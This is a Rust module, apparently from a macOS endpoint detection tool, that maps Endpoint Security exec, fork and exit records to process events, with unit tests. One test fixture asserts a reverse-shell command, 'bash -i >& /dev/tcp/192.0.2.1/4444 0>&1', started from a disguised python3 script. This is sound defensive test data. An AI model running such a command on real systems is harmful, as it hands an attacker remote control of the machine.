//! Endpoint Security records → `ProcessEvent`, with parent facts from the process table.
//!
//! The mapping (design.md §3, macOS column; endpoint-security.md §2): an exec's process is the
//! *target* — the same pid after the image swap, with its new pidversion, executable, argv and,
//! for setuid binaries, its new euid — never the instigator, which is the old image (`xpcproxy`
//! for launchd services). `process.name` is the basename of the executable path, ids are the
//! target token's (euid → `user.id`, ruid → `real_user.id`, egid/rgid likewise) as strings, and
//! signing facts are the target's.
//!
//! The process table is keyed by `(pid, pidversion)`: pidversion changes on every exec and fork,
//! so a reused pid never lends its facts to a stranger. Exec inserts the new image, fork copies the
//! parent's image to the child, exit marks the process dead (it stays resolvable for a grace
//! period: its children's events may still be in flight).
//!
//! Fork and exit records become events too (`event.action` `fork` / `end`), but callers evaluate
//! only execs against the rules, for two reasons. Linux audit sees only execs, and a rule must
//! alert on the same activity whichever source saw it. And a fork child runs its parent's image
//! with the parent's argv, so evaluating it would raise a second alert for every exec that
//! matched (the reverse shell's fork would alert again).

use std::sync::Arc;

use execsentry_macos::record::{CS_SIGNED, CS_VALID};
use execsentry_macos::{EsRecord, Event, Exec, Exit, Fork, Header, Process, RunningProcess};

use crate::entity::entity_id;
use crate::event::{
    basename, Action, CodeSignature, HostInfo, Ids, ProcessEvent, ProcessInfo, SourceFacts, Text,
};
use crate::process_table::{Limits, ProcessTable, TableStats};
use crate::users::NameCache;

/// `CS_ADHOC` (`<kern/cs_blobs.h>`): signed without a certificate. Such a signature can be valid
/// but never chains to a trusted root, so it is not `trusted` (Elastic's rules read
/// `code_signature.trusted == false` as "not signed by a known developer").
const CS_ADHOC: u32 = 0x0000_0002;

/// What the normalizer has seen, for the stats line.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct EsStats {
    pub execs: u64,
    pub forks: u64,
    pub exits: u64,
    /// Processes put in the table from the running-process list at start.
    pub backfilled: u64,
    /// Execs whose parent was in no table entry.
    pub parent_misses: u64,
}

/// Turns Endpoint Security records into events, keeping the process table current.
pub struct EsNormalizer {
    table: ProcessTable,
    /// `None` in a replay: see [`EsNormalizer::replay`].
    names: Option<NameCache>,
    host: Arc<HostInfo>,
    host_id: String,
    boot_id: String,
    stats: EsStats,
}

impl EsNormalizer {
    /// A normalizer for this machine's live events. `boot_id` names this boot
    /// (`kern.bootsessionuuid`): pidversions restart at every boot, so `entity_id` hashes it in.
    /// User and group names are resolved here, once per id.
    pub fn new(host: Arc<HostInfo>, boot_id: String, limits: Limits) -> EsNormalizer {
        EsNormalizer {
            table: ProcessTable::new(limits),
            names: Some(NameCache::new()),
            host_id: host.id.clone().unwrap_or_default(),
            host,
            boot_id,
            stats: EsStats::default(),
        }
    }

    /// A normalizer for recorded streams: the table is built from the records alone, the boot is
    /// unknown (empty), and ids stay numbers: the names belong to the machine that recorded the
    /// stream, not to this one (gid 20 is `staff` on a Mac and `dialout` on Debian).
    pub fn replay(host: Arc<HostInfo>, limits: Limits) -> EsNormalizer {
        EsNormalizer {
            names: None,
            ..EsNormalizer::new(host, String::new(), limits)
        }
    }

    /// The event for one record. Only [`Action::Exec`] events are meant for the rules (see the
    /// module documentation); fork and exit events update the table and are returned for
    /// callers that record every event.
    pub fn normalize(&mut self, rec: EsRecord) -> ProcessEvent {
        let EsRecord {
            header,
            process,
            event,
        } = rec;
        match event {
            Event::Exec(exec) => self.exec(header, exec),
            Event::Fork(fork) => self.fork(header, &process, fork),
            Event::Exit(exit) => self.exit(header, process, exit),
        }
    }

    /// What the rules see of one record: the exec's event, or `None` for a fork or an exit,
    /// which only update the table (see the module documentation). Same table as
    /// [`normalize`](Self::normalize), without building exit events nobody reads.
    pub fn for_rules(&mut self, rec: EsRecord) -> Option<ProcessEvent> {
        match rec.event {
            Event::Exit(_) => {
                self.stats.exits += 1;
                let key = rec.process.key();
                self.table
                    .exit(key.pid, Some(u64::from(key.pidversion)), rec.header.time_ns);
                None
            }
            Event::Fork(_) => {
                self.normalize(rec);
                None
            }
            Event::Exec(_) => Some(self.normalize(rec)),
        }
    }

    /// A process found running at start (macOS backfill) becomes its pid's current image.
    /// Signing facts were not looked up, so `code_signature` stays unknown rather than "unsigned".
    pub fn backfill(&mut self, running: RunningProcess) {
        let RunningProcess {
            process, args, cwd, ..
        } = running;
        let (start_ns, pidversion) = (process.start_time_ns, process.token.pidversion);
        let mut info = self.image(process, args, cwd.map(Text::from), start_ns);
        info.code_signature = None;
        self.stats.backfilled += 1;
        self.table.insert(Arc::new(info), u64::from(pidversion));
    }

    /// Drops dead processes past their grace period, and those `is_alive` denies.
    pub fn prune(&mut self, now_ns: i64, is_alive: impl FnMut(u32) -> bool) {
        self.table.prune(now_ns, is_alive);
    }

    pub fn stats(&self) -> EsStats {
        self.stats
    }

    pub fn table_stats(&self) -> TableStats {
        self.table.stats()
    }

    /// exec: the target image replaces the pid's entry; its parent is looked up by token.
    fn exec(&mut self, header: Header, exec: Exec) -> ProcessEvent {
        self.stats.execs += 1;
        let Exec {
            target, args, cwd, ..
        } = exec;
        let parent = self.parent_of(&target);
        if parent.is_none() {
            self.stats.parent_misses += 1;
        }
        let source = es_facts(&header, &target);
        let (start_ns, generation) = (
            target.start_time_ns.or(Some(header.time_ns)),
            generation_of(&target),
        );
        let process = Arc::new(self.image(target, args, cwd.map(Text::from), start_ns));
        self.table.insert(Arc::clone(&process), generation);
        ProcessEvent {
            timestamp_ns: header.time_ns,
            sequence: sequence(&header),
            action: Action::Exec,
            process,
            parent,
            host: Arc::clone(&self.host),
            source,
        }
    }

    /// fork: the child runs its parent's image (argv, working directory) under its own pid and
    /// pidversion, with the child's own ids and signing facts as Endpoint Security reports them.
    /// (Not `ProcessTable::fork`, which keeps the parent's `entity_id`: here the child is an
    /// execution of its own.)
    fn fork(&mut self, header: Header, instigator: &Process, fork: Fork) -> ProcessEvent {
        self.stats.forks += 1;
        let child = fork.child;
        // The instigator is the parent; its token is exact even on messages without parent tokens.
        let parent = self
            .table
            .get(instigator.token.pid, Some(generation_of(instigator)));
        let source = es_facts(&header, &child);
        let (start_ns, generation) = (
            child.start_time_ns.or(Some(header.time_ns)),
            generation_of(&child),
        );
        let (args, cwd) = match &parent {
            Some(p) => (p.args.clone(), p.working_directory.clone()),
            None => (Vec::new(), None),
        };
        let process = Arc::new(self.image(child, args, cwd, start_ns));
        self.table.insert(Arc::clone(&process), generation);
        ProcessEvent {
            timestamp_ns: header.time_ns,
            sequence: sequence(&header),
            action: Action::Fork,
            process,
            parent,
            host: Arc::clone(&self.host),
            source,
        }
    }

    /// exit: the process is marked dead (kept for the grace period); the event carries its
    /// last image with the exit code.
    fn exit(&mut self, header: Header, process: Process, exit: Exit) -> ProcessEvent {
        self.stats.exits += 1;
        let key = process.key();
        let parent = self.parent_of(&process);
        let source = es_facts(&header, &process);
        let mut info = match self.table.get(key.pid, Some(u64::from(key.pidversion))) {
            Some(known) => (*known).clone(),
            None => {
                let start_ns = process.start_time_ns;
                self.image(process, Vec::new(), None, start_ns)
            }
        };
        info.exit_code = exit.exit_code();
        self.table
            .exit(key.pid, Some(u64::from(key.pidversion)), header.time_ns);
        ProcessEvent {
            timestamp_ns: header.time_ns,
            sequence: sequence(&header),
            action: Action::Exit,
            process: Arc::new(info),
            parent,
            host: Arc::clone(&self.host),
            source,
        }
    }

    /// The parent's current image: by the parent token `(pid, pidversion)` when the message has
    /// one (version 4+), else by `ppid` alone. A token that names another execution than the
    /// table holds for that pid finds nothing: better no parent than a stranger's facts.
    fn parent_of(&mut self, p: &Process) -> Option<Arc<ProcessInfo>> {
        match p.parent {
            Some(key) => self.table.get(key.pid, Some(u64::from(key.pidversion))),
            None if p.ppid != 0 => self.table.get(p.ppid, None),
            None => None,
        }
    }

    /// One process image from Endpoint Security's facts, plus what the caller knows of its
    /// argv and working directory.
    fn image(
        &mut self,
        p: Process,
        args: Vec<String>,
        cwd: Option<Text>,
        start_ns: Option<i64>,
    ) -> ProcessInfo {
        let t = p.token;
        let names = &mut self.names;
        let mut user = |id| names.as_mut().and_then(|n| n.user(id));
        let (user_name, real_user_name) = (user(t.euid), user(t.ruid));
        let mut group = |id| names.as_mut().and_then(|n| n.group(id));
        let (group_name, real_group_name) = (group(t.egid), group(t.rgid));
        let ids = Arc::new(Ids {
            user_id: t.euid.to_string(),
            user_name,
            real_user_id: t.ruid.to_string(),
            real_user_name,
            group_id: t.egid.to_string(),
            group_name,
            real_group_id: t.rgid.to_string(),
            real_group_name,
        });
        let code_signature = Some(code_signature(p.codesigning_flags, p.signing_id, p.team_id));
        let tty = p.tty.map(|t| match t.strip_prefix("/dev/") {
            Some(name) => Text::from(name),
            None => Text::from(t),
        });
        ProcessInfo {
            pid: t.pid,
            ppid: p.ppid,
            entity_id: entity_id(&self.host_id, &self.boot_id, t.pid, u64::from(t.pidversion)),
            name: basename(&p.executable).into(),
            command_line: args.join(" "),
            executable: p.executable.into(),
            args,
            working_directory: cwd,
            ids,
            interactive: tty.is_some(),
            tty,
            code_signature,
            start_ns,
            exit_code: None,
        }
    }
}

/// The table generation of a process: its pidversion.
fn generation_of(p: &Process) -> u64 {
    u64::from(p.token.pidversion)
}

/// `event.sequence`: the per-client `global_seq_num` (version 4+), else the per-type `seq_num`.
fn sequence(h: &Header) -> u64 {
    h.global_seq_num.or(h.seq_num).unwrap_or(0)
}

fn es_facts(h: &Header, p: &Process) -> SourceFacts {
    SourceFacts::EndpointSecurity {
        seq_num: h.seq_num.unwrap_or(0),
        global_seq_num: h.global_seq_num.unwrap_or(0),
        pidversion: p.token.pidversion,
        responsible_pid: p.responsible.map(|k| k.pid),
    }
}

/// `exists`: the image carries a signature (`CS_SIGNED`). `trusted`: the kernel found it valid
/// (`CS_VALID`) and it is not ad hoc, i.e. it names a certificate (Apple or a developer team).
fn code_signature(
    flags: u32,
    signing_id: Option<String>,
    team_id: Option<String>,
) -> CodeSignature {
    let exists = flags & CS_SIGNED != 0;
    CodeSignature {
        exists,
        trusted: exists && flags & CS_VALID != 0 && flags & CS_ADHOC == 0,
        signing_id,
        team_id,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::document::Document;
    use execsentry_macos::{parse_line, AuditToken, ProcessKey};

    const EXEC_FORK_EXIT: &str = include_str!("../../tests/fixtures/macos/exec_fork_exit.ndjson");
    const ARRAY_TOKENS: &str = include_str!("../../tests/fixtures/macos/array_tokens_v10.ndjson");
    const SETUID: &str = include_str!("../../tests/fixtures/macos/setuid_exec.ndjson");
    const SCRIPT: &str = include_str!("../../tests/fixtures/macos/script_exec.ndjson");
    const REVERSE_SHELL: &str = include_str!("../../tests/fixtures/macos/reverse_shell.ndjson");

    fn host() -> Arc<HostInfo> {
        Arc::new(HostInfo {
            name: "mac".into(),
            hostname: "mac".into(),
            id: Some("host-uuid".into()),
            os_type: "macos".into(),
            ..Default::default()
        })
    }

    fn records(ndjson: &str) -> Vec<EsRecord> {
        ndjson
            .lines()
            .map(|l| {
                parse_line(l.as_bytes())
                    .expect("fixture line")
                    .expect("exec, fork or exit")
            })
            .collect()
    }

    fn events(n: &mut EsNormalizer, ndjson: &str) -> Vec<ProcessEvent> {
        records(ndjson)
            .into_iter()
            .map(|r| n.normalize(r))
            .collect()
    }

    fn ns(rfc3339: &str) -> i64 {
        crate::time::parse_rfc3339_ns(rfc3339).expect("test time")
    }

    /// alice's ids, without names: a replay does not know the recording Mac's names.
    fn alice_ids() -> Arc<Ids> {
        Arc::new(Ids {
            user_id: "501".into(),
            real_user_id: "501".into(),
            group_id: "20".into(),
            real_group_id: "20".into(),
            ..Ids::default()
        })
    }

    fn signed(signing_id: &str, team_id: Option<&str>) -> Option<CodeSignature> {
        Some(CodeSignature {
            exists: true,
            trusted: true,
            signing_id: Some(signing_id.into()),
            team_id: team_id.map(Into::into),
        })
    }

    fn facts(seq_num: u64, global_seq_num: u64, pidversion: u32, responsible: u32) -> SourceFacts {
        SourceFacts::EndpointSecurity {
            seq_num,
            global_seq_num,
            pidversion,
            responsible_pid: Some(responsible),
        }
    }

    /// zsh 4100 forks 4200, which execs `ls -la /tmp` and exits 1: three events, field by field.
    /// zsh itself was never seen in the stream, so nobody has a parent from the table.
    #[test]
    fn exec_fork_exit_field_by_field() {
        let mut n = EsNormalizer::replay(host(), Limits::default());
        let evs = events(&mut n, EXEC_FORK_EXIT);
        assert_eq!(evs.len(), 3);

        let fork = &evs[0];
        assert_eq!(fork.action, Action::Fork);
        assert_eq!(fork.event_type(), ["start"]);
        assert_eq!(fork.timestamp_ns, ns("2026-03-02T10:15:00.100200300Z"));
        assert_eq!(fork.sequence, 201);
        assert_eq!(fork.source, facts(40, 201, 9201, 900));
        assert!(fork.parent.is_none());
        let child = ProcessInfo {
            pid: 4200,
            ppid: 4100,
            entity_id: entity_id("host-uuid", "", 4200, 9201),
            executable: "/bin/zsh".into(),
            name: "zsh".into(),
            args: vec![],
            command_line: String::new(),
            working_directory: None,
            ids: alice_ids(),
            interactive: true,
            tty: Some("ttys002".into()),
            code_signature: signed("com.apple.zsh", None),
            start_ns: Some(ns("2026-03-02T10:15:00.100100Z")),
            exit_code: None,
        };
        assert_eq!(*fork.process, child);

        let exec = &evs[1];
        assert_eq!(exec.action, Action::Exec);
        assert_eq!(exec.event_type(), ["start"]);
        assert_eq!(exec.timestamp_ns, ns("2026-03-02T10:15:00.102Z"));
        assert_eq!(exec.sequence, 202);
        assert_eq!(exec.source, facts(77, 202, 9202, 900));
        assert!(
            exec.parent.is_none(),
            "zsh (4100, 9100) is not in the table"
        );
        let ls = ProcessInfo {
            pid: 4200,
            ppid: 4100,
            entity_id: entity_id("host-uuid", "", 4200, 9202),
            executable: "/bin/ls".into(),
            name: "ls".into(),
            args: vec!["ls".into(), "-la".into(), "/tmp".into()],
            command_line: "ls -la /tmp".into(),
            working_directory: Some("/Users/alice".into()),
            ids: alice_ids(),
            interactive: true,
            tty: Some("ttys002".into()),
            code_signature: signed("com.apple.ls", None),
            start_ns: Some(ns("2026-03-02T10:15:00.100100Z")),
            exit_code: None,
        };
        assert_eq!(*exec.process, ls);
        assert_ne!(
            exec.process.entity_id, fork.process.entity_id,
            "exec is a new pidversion"
        );

        let exit = &evs[2];
        assert_eq!(exit.action, Action::Exit);
        assert_eq!(exit.event_type(), ["end"]);
        assert_eq!(exit.sequence, 203);
        assert_eq!(exit.source, facts(51, 203, 9202, 900));
        assert_eq!(
            *exit.process,
            ProcessInfo {
                exit_code: Some(1),
                ..ls
            },
            "the table's image (with argv), and the exit code from stat 256"
        );
        assert_eq!(
            n.stats(),
            EsStats {
                execs: 1,
                forks: 1,
                exits: 1,
                backfilled: 0,
                parent_misses: 1
            }
        );
    }

    /// The same stream after a backfill that found zsh running: the fork child copies zsh's argv
    /// and working directory, and the exec names zsh as its parent — with unknown signing facts,
    /// because the backfill does not look them up.
    #[test]
    fn backfilled_parents_name_forks_and_execs() {
        let mut n = EsNormalizer::replay(host(), Limits::default());
        let zsh = records(EXEC_FORK_EXIT)[0].process.clone();
        assert_eq!(
            zsh.key(),
            ProcessKey {
                pid: 4100,
                pidversion: 9100
            }
        );
        n.backfill(RunningProcess {
            process: Process {
                signing_id: None,
                codesigning_flags: 0,
                ..zsh
            },
            args: vec!["-zsh".into()],
            args_truncated: false,
            cwd: Some("/Users/alice".into()),
        });
        let evs = events(&mut n, EXEC_FORK_EXIT);
        let fork = &evs[0];
        let parent = fork.parent.as_ref().expect("zsh from the backfill");
        assert_eq!((parent.pid, &*parent.name), (4100, "zsh"));
        assert_eq!(parent.code_signature, None, "unknown, not unsigned");
        assert_eq!(parent.entity_id, entity_id("host-uuid", "", 4100, 9100));
        assert_eq!(fork.process.args, ["-zsh"]);
        assert_eq!(fork.process.command_line, "-zsh");
        assert_eq!(
            fork.process.working_directory.as_deref(),
            Some("/Users/alice")
        );
        assert_eq!(fork.process.code_signature, signed("com.apple.zsh", None));

        let exec = &evs[1];
        let parent = exec.parent.as_ref().expect("parent token (4100, 9100)");
        assert_eq!(parent.command_line, "-zsh");
        assert_eq!(&*exec.process.name, "ls");
        assert_eq!(n.stats().backfilled, 1);
        assert_eq!(n.stats().parent_misses, 0);
    }

    /// Version 10 writes tokens as `[auid, euid, egid, ruid, rgid, pid, asid, pidversion]`; a
    /// third-party app without a terminal forks and execs Apple's curl.
    #[test]
    fn array_tokens_and_team_signatures() {
        let mut n = EsNormalizer::replay(host(), Limits::default());
        let evs = events(&mut n, ARRAY_TOKENS);
        assert_eq!(evs.len(), 3);
        let fork = &evs[0];
        assert_eq!((fork.process.pid, fork.process.ppid), (7002, 7001));
        assert_eq!(
            &*fork.process.executable,
            "/Applications/Acme Sync.app/Contents/MacOS/Acme Sync"
        );
        assert_eq!(&*fork.process.name, "Acme Sync");
        assert_eq!(fork.process.ids, alice_ids());
        assert!(!fork.process.interactive);
        assert_eq!(fork.process.tty, None);
        assert_eq!(
            fork.process.code_signature,
            signed("com.example.acme.sync", Some("ACME123456"))
        );
        assert_eq!(fork.source, facts(0, 1, 31001, 7001));

        let curl = &evs[1];
        assert_eq!(curl.action, Action::Exec);
        let p = &curl.process;
        assert_eq!((p.pid, p.ppid), (7002, 7001));
        assert_eq!(p.entity_id, entity_id("host-uuid", "", 7002, 31002));
        assert_eq!(&*p.executable, "/usr/bin/curl");
        assert_eq!(
            p.args,
            ["/usr/bin/curl", "-fsS", "https://updates.example.com/check"]
        );
        assert_eq!(p.working_directory.as_deref(), Some("/"));
        assert_eq!(p.ids, alice_ids());
        assert_eq!(p.code_signature, signed("com.apple.curl", None));
        assert_eq!(curl.sequence, 2);
        assert!(
            curl.parent.is_none(),
            "the app (7001, 31000) was never seen"
        );

        let exit = &evs[2];
        assert_eq!(exit.process.exit_code, Some(0));
        assert_eq!(exit.process.args, p.args);
    }

    /// sudo is setuid root: the target image runs with euid 0 while the real user stays alice.
    #[test]
    fn setuid_exec_has_effective_root_and_real_alice() {
        let mut n = EsNormalizer::replay(host(), Limits::default());
        let evs = events(&mut n, SETUID);
        let p = &evs[0].process;
        assert_eq!(&*p.name, "sudo");
        assert_eq!(p.args, ["sudo", "id"]);
        assert_eq!(p.ids.user_id, "0");
        assert_eq!(p.ids.real_user_id, "501");
        assert_eq!(
            (p.ids.group_id.as_str(), p.ids.real_group_id.as_str()),
            ("20", "20")
        );
        assert_eq!(
            p.ids.user_name, None,
            "a replay does not borrow this machine's names"
        );
        let user_id = evs[0].values(&crate::document::FieldPath::new("user.id"));
        assert_eq!(user_id.first(), Some(crate::document::Scalar::Str("0")));

        // Live, names are this machine's: uid 0 is root everywhere.
        let mut live = EsNormalizer::new(host(), "boot".into(), Limits::default());
        let ev = live.normalize(records(SETUID).remove(0));
        assert_eq!(ev.process.ids.user_name.as_deref(), Some("root"));
        assert_eq!(ev.process.ids.real_user_id, "501");
        assert_eq!(
            ev.process.entity_id,
            entity_id("host-uuid", "boot", 4300, 9302)
        );
    }

    /// A `#!/bin/sh` script: the image is the interpreter, argv as the kernel rewrote it.
    #[test]
    fn script_exec_is_the_interpreter() {
        let mut n = EsNormalizer::replay(host(), Limits::default());
        let evs = events(&mut n, SCRIPT);
        let p = &evs[0].process;
        assert_eq!((&*p.executable, &*p.name), ("/bin/sh", "sh"));
        assert_eq!(p.args, ["/bin/sh", "/Users/alice/bin/backup.sh", "--full"]);
        assert_eq!(p.command_line, "/bin/sh /Users/alice/bin/backup.sh --full");
        assert_eq!(
            p.working_directory.as_deref(),
            Some("/Users/alice/Documents")
        );
        assert_eq!(p.code_signature, signed("com.apple.sh", None));
    }

    /// python3 (seen exec'ing first) forks and the child execs a reverse shell: the shell's
    /// parent is python3 by its token, through the fork.
    #[test]
    fn reverse_shell_parent_comes_from_the_earlier_exec() {
        let mut n = EsNormalizer::replay(host(), Limits::default());
        let evs = events(&mut n, REVERSE_SHELL);
        let actions: Vec<Action> = evs.iter().map(|e| e.action).collect();
        assert_eq!(
            actions,
            [Action::Exec, Action::Fork, Action::Exec, Action::Exit]
        );
        let python = &evs[0].process;
        assert_eq!(python.command_line, "python3 /tmp/.cache/update.py");

        let fork = &evs[1];
        assert_eq!(
            fork.process.command_line, python.command_line,
            "a fork runs its parent's image"
        );
        assert_eq!(
            fork.parent.as_ref().map(|p| p.entity_id.as_str()),
            Some(python.entity_id.as_str())
        );

        let bash = &evs[2];
        let p = &bash.process;
        assert_eq!(
            (p.pid, &*p.name, &*p.executable),
            (5001, "bash", "/bin/bash")
        );
        assert_eq!(
            p.args,
            ["/bin/bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"]
        );
        let parent = bash.parent.as_ref().expect("python3 from the table");
        assert_eq!(parent.entity_id, python.entity_id);
        assert_eq!(&*parent.name, "python3");
        assert_eq!(&*parent.executable, "/usr/bin/python3");
        assert_eq!(parent.command_line, "python3 /tmp/.cache/update.py");
        assert_eq!(bash.sequence, 222);

        let exit = &evs[3];
        assert_eq!(
            exit.process.exit_code, None,
            "killed by SIGKILL: no exit code"
        );
        assert_eq!(&*exit.process.name, "bash");
        assert_eq!(exit.parent.as_ref().map(|p| &*p.name), Some("python3"));
    }

    /// `for_rules` hands over the execs only, and leaves the table as `normalize` does.
    #[test]
    fn for_rules_yields_execs_and_keeps_the_same_table() {
        let mut a = EsNormalizer::replay(host(), Limits::default());
        let mut b = EsNormalizer::replay(host(), Limits::default());
        let mut execs = Vec::new();
        for rec in records(REVERSE_SHELL) {
            let full = a.normalize(rec.clone());
            match b.for_rules(rec) {
                Some(ev) => {
                    assert_eq!(ev, full);
                    execs.push(ev.process.pid);
                }
                None => assert_ne!(full.action, Action::Exec),
            }
        }
        assert_eq!(execs, [5000, 5001]);
        assert_eq!(a.stats(), b.stats());
        assert_eq!(a.table_stats().entries, b.table_stats().entries);
        // The shell exited: still resolvable for the grace period, in both.
        assert!(b.table.get(5001, Some(12003)).is_some());
        b.prune(ns("2026-03-02T10:30:40Z"), |_| true);
        assert!(
            b.table.get(5001, Some(12003)).is_none(),
            "gone after the grace period"
        );
        assert!(
            b.table.get(5000, Some(12001)).is_some(),
            "python3 never exited"
        );
    }

    /// A parent token naming another execution of the pid than the table holds finds nothing;
    /// without a token (old messages) the ppid alone is used.
    #[test]
    fn parent_lookup_respects_pidversion() {
        let mut n = EsNormalizer::replay(host(), Limits::default());
        let mut recs = records(REVERSE_SHELL);
        let python = n.normalize(recs.remove(0));
        let mut bash = recs.remove(1);
        let Event::Exec(exec) = &mut bash.event else {
            panic!("the third line is an exec")
        };
        exec.target.parent = Some(ProcessKey {
            pid: 5000,
            pidversion: 99,
        });
        assert!(
            n.normalize(bash.clone()).parent.is_none(),
            "pid 5000 is another execution now"
        );

        let Event::Exec(exec) = &mut bash.event else {
            unreachable!()
        };
        exec.target.parent = None;
        let ev = n.normalize(bash);
        assert_eq!(
            ev.parent.map(|p| p.entity_id.clone()),
            Some(python.process.entity_id.clone())
        );
    }

    #[test]
    fn code_signature_flags() {
        let valid_dev_id = CS_SIGNED | CS_VALID;
        let cs = code_signature(valid_dev_id, Some("com.acme".into()), Some("ACME".into()));
        assert!(cs.exists && cs.trusted);
        let adhoc = code_signature(valid_dev_id | CS_ADHOC, Some("a.out".into()), None);
        assert!(
            adhoc.exists && !adhoc.trusted,
            "ad hoc: valid, but no certificate"
        );
        let invalid = code_signature(CS_SIGNED, Some("x".into()), None);
        assert!(invalid.exists && !invalid.trusted);
        let unsigned = code_signature(0, None, None);
        assert!(!unsigned.exists && !unsigned.trusted);
        // The token helper the fixtures rely on.
        assert_eq!(
            AuditToken::from_val([0, 1, 2, 3, 4, 5, 6, 7]).key(),
            ProcessKey {
                pid: 5,
                pidversion: 7
            }
        );
    }
}
